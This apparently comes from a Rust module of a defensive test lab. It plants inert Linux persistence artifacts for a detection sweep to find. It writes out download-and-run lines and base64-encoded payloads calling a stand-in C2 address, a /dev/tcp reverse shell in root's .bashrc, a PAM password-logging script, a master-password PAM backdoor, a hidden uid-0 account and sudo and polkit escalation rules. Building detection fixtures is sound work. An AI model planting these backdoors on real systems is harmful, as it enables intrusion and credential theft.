//! The files of [`Scenario::Persist`](super::Scenario::Persist) lab hosts: one case of every
//! persistence family of issue 7 that a sweep can see over SSH, planted the way an intruder
//! leaves them (names borrowed from real packages, package-looking paths, encoded payloads).
//!
//! One function per family ([`accounts`], [`boot_hooks`], [`login_hooks`], [`loader`],
//! [`path_hijack`], [`sessions`], [`apt_hook`], [`pam_hooks`], [`polkit_rule`]; the network
//! family is a line of the host's init script, [`NETWORK_SETUP`]), so that a new family is
//! one more function called from [`plant`].
//!
//! Everything planted is inert in the lab, and the host stays usable for the tests:
//! - nothing runs the hooks (the host has no init system, no udev, no polkitd, nothing runs
//!   apt, and its sshd runs with `UsePAM no` and `PrintMotd no`, so the `pam_exec` line
//!   planted in `/etc/pam.d/sshd` is never read; the unowned module is loaded only by
//!   `/etc/pam.d/su`, which no lab login or `sudo` uses); root's `.bashrc` line only runs in interactive shells,
//!   the `profile.d` script only in login shells, and every address they name is in a
//!   documentation range that no lab namespace has a route to;
//! - `/etc/ld.so.preload` names a copy of glibc's `libdl.so.2` (an empty compatibility stub
//!   since glibc 2.34), so every program of the host, sshd included, still starts normally;
//!   the PAM module named like systemd-homed's is another copy of it;
//! - the sudoers drop-in is valid sudoers syntax, mode 0440 (the test checks `visudo -c`);
//! - no password hash planted matches any password (they are not real crypt output).
//!
//! Not planted: kernel modules (hidden or unowned: loading one into the machine's kernel is
//! not safe, and this kernel may have no module support) and duplicate MACs (the rule judges
//! physical adapters only, and a lab host has nothing but veths).

use super::seed::{Seed, planted_or_real};
use std::fs;
use std::os::unix::fs::MetadataExt;
use std::path::Path;

/// The extra uid-0 account, named like a systemd helper.
pub const UID0_ACCOUNT: &str = "systemd-sync";
/// The service account made usable (login shell, password, password-less sudo).
pub const SERVICE_ACCOUNT: &str = "www-data";
/// The sudoers drop-in giving [`SERVICE_ACCOUNT`] `NOPASSWD: ALL`, named like cloud-init's.
pub const SUDOERS_FILE: &str = "/etc/sudoers.d/90-cloud-init-users";
/// The address that brute-forced root and then logged in (wtmp, btmp, utmp records only: no
/// packet is ever sent to it).
pub const ATTACKER_ADDR: &str = "203.0.113.77";
/// The download server the hooks name (never reachable from the lab).
pub const C2_ADDR: &str = "198.51.100.47";
/// How many failed logins [`ATTACKER_ADDR`] has in btmp (within five minutes).
pub const FAILED_LOGINS: usize = 40;
/// The init script and its rc links.
pub const INIT_SCRIPT: &str = "/etc/init.d/hwclock-sync";
/// `/etc/rc.local`.
pub const RC_LOCAL: &str = "/etc/rc.local";
/// The profile.d script with the base64-encoded download.
pub const PROFILE_D: &str = "/etc/profile.d/bash_completion_ext.sh";
/// The motd script.
pub const MOTD: &str = "/etc/update-motd.d/50-landscape-sysinfo";
/// The xdg autostart entry.
pub const AUTOSTART: &str = "/etc/xdg/autostart/gnome-keyring-ssh-agent.desktop";
/// The udev rule with `RUN+=`.
pub const UDEV_RULE: &str = "/etc/udev/rules.d/75-persistent-net-generator.rules";
/// The unowned executable systemd generator.
pub const GENERATOR: &str = "/etc/systemd/system-generators/systemd-sync-generator";
/// The library named in `/etc/ld.so.preload` (a file name; its directory is the one holding
/// glibc's libraries on this machine).
pub const PRELOAD_NAME: &str = "libpam_cache.so.1";
/// The `ld.so.conf.d` file adding a directory under `/dev/shm`.
pub const LD_CONF: &str = "/etc/ld.so.conf.d/x86_64-linux-gnu-extra.conf";
/// The directory it adds.
pub const LD_CONF_DIR: &str = "/dev/shm/.pulse/lib";
/// The modprobe.d file with an `install` command.
pub const MODPROBE: &str = "/etc/modprobe.d/ipv6-options.conf";
/// The `install` command in it.
pub const MODPROBE_INSTALL: &str = "install ipv6 /sbin/modprobe --ignore-install ipv6 $CMDLINE_OPTS; /bin/sh -c '/usr/bin/nohup /dev/shm/.x/kthreadd >/dev/null 2>&1 &'";
/// The program of `/usr/local/bin` shadowing the packaged `/usr/bin/ps` (first in PATH).
pub const HIJACK: &str = "/usr/local/bin/ps";
/// The interface the host puts in promiscuous mode (its only one besides `lo`).
pub const PROMISC_IFACE: &str = "eth0";
/// Init-script lines of the network family, run in the host's own network namespace after
/// its address is set: the sniffer's promiscuous interface.
pub const NETWORK_SETUP: &str = "ip link set eth0 promisc on\n";
/// The apt configuration named like update-notifier's stamp file: besides the stamp, it
/// runs a base64-encoded download before every index update.
pub const APT_HOOK: &str = "/etc/apt/apt.conf.d/15update-stamp";
/// The line of [`APT_HOOK`] with the encoded download.
pub const APT_HOOK_LINE: usize = 2;
/// The PAM service file given a `pam_exec` line that hands every typed password to a script.
pub const PAM_EXEC_SERVICE: &str = "/etc/pam.d/sshd";
/// The script it runs, in openssh's own library directory.
pub const PAM_EXEC_SCRIPT: &str = "/usr/lib/openssh/sshd-auth-helper";
/// The PAM service file given a `sufficient` line loading the unowned module (a master
/// password for `su`).
pub const PAM_MODULE_SERVICE: &str = "/etc/pam.d/su";
/// The unowned PAM module's file name (systemd-homed's, which this machine does not have).
pub const PAM_MODULE_NAME: &str = "pam_systemd_home.so";
/// The polkit rule, named like a PackageKit one, letting [`SERVICE_ACCOUNT`] do anything.
pub const POLKIT_RULE: &str = "/etc/polkit-1/rules.d/49-org.freedesktop.packagekit.rules";
/// Where the lab keeps the host's `/run/utmp` until its init script has mounted `/run` (a
/// tmpfs that hides whatever the overlay has there), relative to the host's lab directory.
pub const UTMP_STAGED: &str = "run-utmp";

/// A password hash that no password gives (the right shape for sha512crypt, but its hash
/// part was written by hand).
fn fake_hash(who: &str) -> String {
    let body: String = format!("NotARealHash{who}")
        .chars()
        .cycle()
        .filter(|c| c.is_ascii_alphanumeric())
        .take(86)
        .collect();
    format!("$6$persistlab${body}")
}

/// Plants every family into the seed of a Persist host whose lab directory is `hdir`.
pub(super) fn plant(s: &Seed, hdir: &Path) -> std::io::Result<()> {
    accounts(s)?;
    boot_hooks(s)?;
    login_hooks(s)?;
    loader(s)?;
    path_hijack(s)?;
    apt_hook(s)?;
    pam_hooks(s)?;
    polkit_rule(s)?;
    sessions(s, hdir)
}

/// Accounts: an extra uid-0 account named like a systemd helper, `www-data` given a login
/// shell and a password, and password-less sudo to everything for it in a drop-in named like
/// cloud-init's.
fn accounts(s: &Seed) -> std::io::Result<()> {
    let passwd: String = planted_or_real(s, "/etc/passwd")
        .lines()
        .filter(|l| l.split(':').next() != Some(UID0_ACCOUNT))
        .map(|l| {
            let mut f: Vec<&str> = l.split(':').collect();
            if f[0] == SERVICE_ACCOUNT && f.len() == 7 {
                f[6] = "/bin/bash";
            }
            format!("{}\n", f.join(":"))
        })
        .collect();
    let passwd = format!(
        "{passwd}{UID0_ACCOUNT}:x:0:0:systemd Time Sync Helper:/var/lib/systemd/sync:/bin/bash\n"
    );
    s.file("/etc/passwd", passwd.as_bytes(), 0o644, 0, 0)?;

    let mut out = String::new();
    for line in planted_or_real(s, "/etc/shadow").lines() {
        let mut f: Vec<String> = line.split(':').map(String::from).collect();
        if f[0] == UID0_ACCOUNT {
            continue;
        }
        if f[0] == SERVICE_ACCOUNT && f.len() > 2 {
            f[1] = fake_hash("WwwData");
            f[2] = "20410".into();
        }
        out.push_str(&f.join(":"));
        out.push('\n');
    }
    out.push_str(&format!(
        "{UID0_ACCOUNT}:{}:20410:0:99999:7:::\n",
        fake_hash("Sync")
    ));
    let shadow_gid = fs::metadata("/etc/shadow").map(|m| m.gid()).unwrap_or(0);
    s.file("/etc/shadow", out.as_bytes(), 0o640, 0, shadow_gid)?;

    s.file(
        SUDOERS_FILE,
        format!(
            "# Created by cloud-init v. 23.1.2 on Tue, 04 Nov 2025 10:12:44 +0000\n\n\
             # User rules for {SERVICE_ACCOUNT}\n{SERVICE_ACCOUNT} ALL=(ALL) NOPASSWD:ALL\n"
        )
        .as_bytes(),
        0o440,
        0,
        0,
    )
}

/// Boot and event hooks: an init script named like a hwclock helper (with its rc links)
/// that downloads and runs a script, `/etc/rc.local` doing the same, a motd script fetching a
/// payload at every SSH login, an xdg autostart entry named like gnome-keyring's, a udev rule
/// named like the old net generator's running a download on every network device event, and
/// an executable systemd generator nobody owns.
fn boot_hooks(s: &Seed) -> std::io::Result<()> {
    let c2 = C2_ADDR;
    s.file(
        INIT_SCRIPT,
        format!(
            "#!/bin/sh\n\
             ### BEGIN INIT INFO\n\
             # Provides:          hwclock-sync\n\
             # Required-Start:    $network\n\
             # Required-Stop:\n\
             # Default-Start:     2 3 4 5\n\
             # Default-Stop:\n\
             # Short-Description: Keep the hardware clock in sync\n\
             ### END INIT INFO\n\
             case \"$1\" in\n\
             start)\n\
             \x20       curl -fsSL http://{c2}/h | sh >/dev/null 2>&1 &\n\
             \x20       ;;\n\
             esac\n\
             exit 0\n"
        )
        .as_bytes(),
        0o755,
        0,
        0,
    )?;
    for rc in ["2", "3", "4", "5"] {
        s.symlink(
            &format!("/etc/rc{rc}.d/S01hwclock-sync"),
            "../init.d/hwclock-sync",
        )?;
    }
    s.file(
        RC_LOCAL,
        format!(
            "#!/bin/sh -e\n#\n# rc.local\n#\n# This script is executed at the end of each multiuser runlevel.\n\
             curl -fsSL http://{c2}/r.sh | sh >/dev/null 2>&1 &\nexit 0\n"
        )
        .as_bytes(),
        0o755,
        0,
        0,
    )?;
    s.file(
        MOTD,
        format!(
            "#!/bin/sh\n# landscape system information\ncurl -fsSL http://{c2}/m | sh >/dev/null 2>&1 &\n"
        )
        .as_bytes(),
        0o755,
        0,
        0,
    )?;
    s.file(
        AUTOSTART,
        format!(
            "[Desktop Entry]\nType=Application\nName=SSH Key Agent\nExec=/bin/sh -c \"wget -q -O- http://{c2}/a | sh\"\n\
             OnlyShowIn=GNOME;Unity;MATE;\nNoDisplay=true\nX-GNOME-Autostart-Phase=PreDisplayServer\n"
        )
        .as_bytes(),
        0o644,
        0,
        0,
    )?;
    s.file(
        UDEV_RULE,
        format!(
            "# Generate persistent network interface names\n\
             ACTION==\"add\", SUBSYSTEM==\"net\", RUN+=\"/bin/sh -c 'wget -q -O- http://{c2}/n | sh'\"\n"
        )
        .as_bytes(),
        0o644,
        0,
        0,
    )?;
    s.file(
        GENERATOR,
        b"#!/bin/sh\n# enable the time sync helper at every boot\nmkdir -p \"$1\"/multi-user.target.wants\nln -sf /usr/lib/systemd/system/systemd-sync.service \"$1\"/multi-user.target.wants/\n",
        0o755,
        0,
        0,
    )
}

/// Login hooks: a profile.d script named like bash-completion's that evaluates a
/// base64-encoded download, and a reverse shell appended to root's ordinary `.bashrc` (for
/// interactive shells only, as careful intruders do).
fn login_hooks(s: &Seed) -> std::io::Result<()> {
    // `curl -fsSL http://198.51.100.47/s | bash` (C2_ADDR), base64-encoded.
    let payload = "Y3VybCAtZnNTTCBodHRwOi8vMTk4LjUxLjEwMC40Ny9zIHwgYmFzaAo=";
    s.file(
        PROFILE_D,
        format!(
            "# bash completion extensions\n[ -n \"$BASH_VERSION\" ] || return 0\n\
             eval \"$(echo {payload} | base64 -d)\" >/dev/null 2>&1\n"
        )
        .as_bytes(),
        0o644,
        0,
        0,
    )?;
    let bashrc = s.path("/root/.bashrc");
    let mut data = fs::read(&bashrc).unwrap_or_default();
    data.extend_from_slice(
        format!("[[ $- == *i* ]] && (bash -i >& /dev/tcp/{C2_ADDR}/443 0>&1 &) 2>/dev/null\n")
            .as_bytes(),
    );
    s.file("/root/.bashrc", &data, 0o644, 0, 0)
}

/// Where glibc's libraries are, and its `libdl.so.2` stub (None when this machine has none).
fn libdl() -> Option<(&'static str, Vec<u8>)> {
    [
        "/usr/lib/x86_64-linux-gnu",
        "/usr/lib/aarch64-linux-gnu",
        "/usr/lib64",
    ]
    .into_iter()
    .find_map(|d| Some((d, fs::read(format!("{d}/libdl.so.2")).ok()?)))
}

/// The library `/etc/ld.so.preload` names on this machine.
pub fn preload_path() -> String {
    let dir = libdl().map_or("/usr/lib/x86_64-linux-gnu", |(d, _)| d);
    format!("{dir}/{PRELOAD_NAME}")
}

/// Loader and modules: `/etc/ld.so.preload` naming a library with a PAM-looking name, a
/// loader directory under `/dev/shm`, and a modprobe `install` command that starts a
/// disguised binary from `/dev/shm` whenever ipv6 is loaded.
fn loader(s: &Seed) -> std::io::Result<()> {
    let lib = preload_path();
    // A harmless real library under the planted name (without one, ld.so warns on every
    // program start that it cannot preload it, and goes on).
    if let Some((_, data)) = libdl() {
        s.file(&lib, &data, 0o644, 0, 0)?;
    }
    s.file(
        "/etc/ld.so.preload",
        format!("{lib}\n").as_bytes(),
        0o644,
        0,
        0,
    )?;
    s.file(
        LD_CONF,
        format!("# Multiarch support (extra)\n{LD_CONF_DIR}\n").as_bytes(),
        0o644,
        0,
        0,
    )?;
    s.file(
        MODPROBE,
        format!("# IPv6 options\n{MODPROBE_INSTALL}\n").as_bytes(),
        0o644,
        0,
        0,
    )
}

/// PATH hijack: an unowned `ps` first in PATH that hides the intruder's processes.
fn path_hijack(s: &Seed) -> std::io::Result<()> {
    s.file(
        HIJACK,
        b"#!/bin/sh\n/usr/bin/ps \"$@\" | grep -v -e kthreadd.x -e hwclock -e '/dev/shm/'\n",
        0o755,
        0,
        0,
    )
}

/// Package-manager hook: an apt configuration file named like update-notifier's
/// `15update-stamp` that, besides touching the stamp as the real one does, decodes and runs a
/// download before every `apt update` (as root).
fn apt_hook(s: &Seed) -> std::io::Result<()> {
    // `curl -fsSL http://198.51.100.47/u | sh` (C2_ADDR), base64-encoded.
    let payload = "Y3VybCAtZnNTTCBodHRwOi8vMTk4LjUxLjEwMC40Ny91IHwgc2g=";
    s.file(
        APT_HOOK,
        format!(
            "// Record the time of the last successful update\n\
             APT::Update::Pre-Invoke {{ \"echo {payload} | base64 -d | sh >/dev/null 2>&1 || true\"; }};\n\
             APT::Update::Post-Invoke-Success {{ \"touch /var/lib/apt/periodic/update-success-stamp 2>/dev/null || true\"; }};\n"
        )
        .as_bytes(),
        0o644,
        0,
        0,
    )
}

/// The directory holding glibc's libraries and its `security` directory of PAM modules
/// (`/usr/lib/<triplet>`: on a merged-/usr machine `/lib` is a symlink the seed cannot plant
/// through).
fn pam_module_planted() -> String {
    let dir = libdl().map_or("/usr/lib/x86_64-linux-gnu", |(d, _)| d);
    format!("{dir}/security/{PAM_MODULE_NAME}")
}

/// The path under which the `hooks` collector finds the planted module (it looks in
/// `/lib/<triplet>/security` before `/usr/lib/<triplet>/security`, and on a merged-/usr
/// machine the module is in both).
pub fn pam_module_path() -> String {
    let planted = pam_module_planted();
    match planted.strip_prefix("/usr/lib/") {
        Some(rest)
            if rest.contains("-linux-gnu/")
                && Path::new("/lib")
                    .join(rest)
                    .parent()
                    .is_some_and(Path::is_dir) =>
        {
            format!("/lib/{rest}")
        }
        _ => planted,
    }
}

/// Authentication hooks: a `pam_exec` line added to sshd's PAM service, handing every typed
/// password (`expose_authtok`) to a script in openssh's library directory that appends it to
/// a file named like a debconf backup; and an unowned module named like systemd-homed's (a
/// copy of a harmless real library) made `sufficient` for `su`, the classic master-password
/// backdoor.
fn pam_hooks(s: &Seed) -> std::io::Result<()> {
    let sshd = planted_or_real(s, PAM_EXEC_SERVICE);
    let line =
        format!("auth       optional     pam_exec.so quiet expose_authtok {PAM_EXEC_SCRIPT}\n");
    let sshd = match sshd.find("@include common-auth\n") {
        Some(i) => {
            let end = i + "@include common-auth\n".len();
            format!("{}{line}{}", &sshd[..end], &sshd[end..])
        }
        None => format!("{line}{sshd}"),
    };
    s.file(PAM_EXEC_SERVICE, sshd.as_bytes(), 0o644, 0, 0)?;
    s.file(
        PAM_EXEC_SCRIPT,
        b"#!/bin/sh\n# sshd authentication helper\nread -r tok\n\
          printf '%s %s %s %s\\n' \"$(date +%s)\" \"$PAM_RHOST\" \"$PAM_USER\" \"$tok\" >>/var/cache/debconf/templates.dat-old\n\
          exit 0\n",
        0o755,
        0,
        0,
    )?;

    if let Some((_, data)) = libdl() {
        s.file(&pam_module_planted(), &data, 0o644, 0, 0)?;
    }
    let su = planted_or_real(s, PAM_MODULE_SERVICE);
    let line = format!("auth       sufficient {PAM_MODULE_NAME}\n");
    let su = match su.find("auth       sufficient pam_rootok.so\n") {
        Some(i) => {
            let end = i + "auth       sufficient pam_rootok.so\n".len();
            format!("{}{line}{}", &su[..end], &su[end..])
        }
        None => format!("{line}{su}"),
    };
    s.file(PAM_MODULE_SERVICE, su.as_bytes(), 0o644, 0, 0)
}

/// Polkit: a rule named like a PackageKit one returning `polkit.Result.YES` for every action
/// asked by [`SERVICE_ACCOUNT`] (start units, mount, pkexec as root without a password).
fn polkit_rule(s: &Seed) -> std::io::Result<()> {
    s.file(
        POLKIT_RULE,
        format!(
            "// Allow the update service to refresh the package cache without a prompt\n\
             polkit.addRule(function(action, subject) {{\n\
             \x20   if (subject.user == \"{SERVICE_ACCOUNT}\") {{\n\
             \x20       return polkit.Result.YES;\n\
             \x20   }}\n\
             }});\n"
        )
        .as_bytes(),
        0o644,
        0,
        0,
    )
}

/// Login records: [`FAILED_LOGINS`] failed logins from [`ATTACKER_ADDR`] within five
/// minutes (btmp), then root logs in from it (wtmp), and a session of it whose user name was
/// forged to `LOGIN` is still open (utmp, next to the ordinary `LOGIN` getty record of tty1).
fn sessions(s: &Seed, hdir: &Path) -> std::io::Result<()> {
    const T0: i32 = 1_763_800_000; // 2025-11-22T08:26:40Z
    let a = Some(ATTACKER_ADDR);
    let kernel = "6.1.0-13-amd64";
    let users = ["root", "admin", "oracle", "ubuntu"];
    let btmp: Vec<u8> = (0..FAILED_LOGINS)
        .flat_map(|i| {
            let t = T0 + 7200 + 5 * i as i32;
            utmp(
                LOGIN_PROCESS,
                2000 + i as i32,
                "ssh:notty",
                users[i % 4],
                ATTACKER_ADDR,
                a,
                t,
            )
        })
        .collect();
    let login = T0 + 7200 + 5 * FAILED_LOGINS as i32 + 30;
    let mut wtmp = utmp(BOOT_TIME, 0, "~", "reboot", kernel, None, T0);
    wtmp.extend(utmp(
        USER_PROCESS,
        2100,
        "pts/1",
        "root",
        ATTACKER_ADDR,
        a,
        login,
    ));
    let mut run_utmp = utmp(BOOT_TIME, 0, "~", "reboot", kernel, None, T0);
    run_utmp.extend(utmp(LOGIN_PROCESS, 640, "tty1", "LOGIN", "", None, T0 + 10));
    run_utmp.extend(utmp(
        USER_PROCESS,
        2100,
        "pts/1",
        "LOGIN",
        ATTACKER_ADDR,
        a,
        login,
    ));
    let utmp_gid = group_id("utmp").unwrap_or(0);
    s.file("/var/log/btmp", &btmp, 0o660, 0, utmp_gid)?;
    s.file("/var/log/wtmp", &wtmp, 0o664, 0, utmp_gid)?;
    let staged = hdir.join(UTMP_STAGED);
    fs::write(&staged, run_utmp)?;
    std::os::unix::fs::chown(&staged, Some(0), Some(utmp_gid))
}

/// Init-script lines that put [`UTMP_STAGED`] in place once `/run` is mounted (`$D` is the
/// host's lab directory, `$R` its root).
pub fn utmp_setup() -> String {
    format!("cp -p \"$D/{UTMP_STAGED}\" \"$R/run/utmp\"\nchmod 0664 \"$R/run/utmp\"\n")
}

/// gid of a group of this machine.
fn group_id(name: &str) -> Option<u32> {
    fs::read_to_string("/etc/group")
        .ok()?
        .lines()
        .find_map(|l| {
            let f: Vec<&str> = l.split(':').collect();
            (f[0] == name).then(|| f.get(2)?.parse().ok()).flatten()
        })
}

const BOOT_TIME: i16 = 2;
const LOGIN_PROCESS: i16 = 6;
const USER_PROCESS: i16 = 7;

/// One glibc `struct utmp` record (384 bytes, little endian), as
/// `tests/fixtures/generate.py` builds them: type, pid, line, user, host, time, IPv4 address.
fn utmp(
    kind: i16,
    pid: i32,
    line: &str,
    user: &str,
    host: &str,
    addr: Option<&str>,
    sec: i32,
) -> Vec<u8> {
    let mut r = vec![0u8; 384];
    r[0..2].copy_from_slice(&kind.to_le_bytes());
    r[4..8].copy_from_slice(&pid.to_le_bytes());
    r[8..8 + line.len()].copy_from_slice(line.as_bytes());
    r[44..44 + user.len()].copy_from_slice(user.as_bytes());
    r[76..76 + host.len()].copy_from_slice(host.as_bytes());
    r[340..344].copy_from_slice(&sec.to_le_bytes());
    if let Some(a) = addr.and_then(|a| a.parse::<std::net::Ipv4Addr>().ok()) {
        r[348..352].copy_from_slice(&a.octets());
    }
    r
}
